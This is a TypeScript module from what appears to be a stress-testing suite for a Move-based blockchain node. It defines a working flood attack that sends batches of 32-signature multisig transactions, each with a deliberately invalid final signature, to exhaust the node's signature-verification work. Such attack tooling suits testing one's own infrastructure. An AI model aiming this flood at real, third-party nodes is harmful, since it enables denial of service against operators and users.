import { type Address, address, bytesToHex, crypto, encodeBcs } from "@atoll/move";
import {
  type AnyPublicKey,
  authenticationKeyOf,
  createSignedTransaction,
  encodeRawTransaction,
  type RawTransaction,
  type SignedTransaction,
  signingMessage,
} from "@atoll/node";
import { secp256k1 } from "@noble/curves/secp256k1.js";
import { SIGNED_TRANSACTION_TYPE } from "../../../tests/support/signedTransfer.ts";
import { call } from "../http.ts";
import type { Attack } from "./attack.ts";
import { startFlood } from "./flood.ts";

const KEYS = 32;
const BATCH = 10;
const BATCHES_EACH = 2;
const CONNECTIONS = 4;
const FUNDS_OCTAS = 100_000_000_000;

/** Multisig account with 32 secp256k1 keys, all of them required. */
interface Council {
  readonly secrets: readonly Uint8Array[];
  readonly publicKeys: readonly AnyPublicKey[];
  readonly address: Address;
}

/**
 * Attack by batches of ten transactions with 32 secp256k1 signatures each, the last signature invalid, from a funded and an unfunded
 * account.
 */
export const dearSignatures: Attack = {
  name: "batches of 32-signature transactions",
  async start({ nodeUrl, faucetUrl }) {
    const [poor, rich] = [createCouncil(), createCouncil()];
    const funds = JSON.stringify({ address: rich.address, amount: FUNDS_OCTAS });
    await call(`${faucetUrl}/fund`, { method: "POST", headers: { "content-type": "application/json" }, body: funds });
    const bodies = Array.from({ length: BATCHES_EACH }, () => [batchOf(poor), batchOf(rich)]).flat();
    let sent = 0;
    return startFlood({
      connections: CONNECTIONS,
      next: () => ({
        url: `${nodeUrl}/transactions/batch`,
        headers: SIGNED_TRANSACTION_TYPE,
        body: bodies[sent++ % bodies.length] as Uint8Array,
      }),
    });
  },
};

function createCouncil(): Council {
  const secrets = Array.from({ length: KEYS }, () => secp256k1.utils.randomSecretKey());
  const publicKeys = secrets.map((secret) => ({ kind: "secp256k1", bytes: secp256k1.getPublicKey(secret, false) }) as const);
  const key = authenticationKeyOf({ ...authenticatorOf(publicKeys), signatures: [] });
  if (key === undefined) throw new Error("a multi-key account has an authentication key");
  return { secrets, publicKeys, address: address(bytesToHex(key)) };
}

function authenticatorOf(publicKeys: readonly AnyPublicKey[]) {
  return { kind: "multiKey", publicKeys, signaturesRequired: KEYS, bitmap: new Uint8Array(4).fill(0xff) } as const;
}

function batchOf(council: Council): Uint8Array {
  const transactions = Array.from({ length: BATCH }, (_, index) => sign(council, BigInt(index)));
  return encodeBcs((writer) => writer.vector(transactions, (inner, { bytes }) => inner.fixedBytes(bytes)));
}

function sign(council: Council, sequenceNumber: bigint): SignedTransaction {
  const raw = transfer(council.address, sequenceNumber);
  const digest = crypto.sha3_256(signingMessage(encodeRawTransaction(raw), { kind: "single" }));
  const signatures = council.secrets.map((secret, index) => {
    const bytes = index === KEYS - 1 ? new Uint8Array(64).fill(1) : secp256k1.sign(digest, secret, { prehash: false });
    return { kind: "secp256k1", bytes } as const;
  });
  return createSignedTransaction(raw, { kind: "singleSender", sender: { ...authenticatorOf(council.publicKeys), signatures } });
}

function transfer(sender: Address, sequenceNumber: bigint): RawTransaction {
  const args = [encodeBcs((writer) => writer.address(address("0xb0b"))), encodeBcs((writer) => writer.u64(1n))];
  const module = { address: address("0x1"), name: "aptos_account" };
  return {
    sender,
    sequenceNumber,
    payload: { kind: "entryFunction", entryFunction: { module, name: "transfer", typeArguments: [], args } },
    maxGasAmount: 2_000n,
    gasUnitPrice: 100n,
    expirationTimestampSecs: BigInt(Math.floor(Date.now() / 1000) + 3600),
    chainId: 4,
  };
}
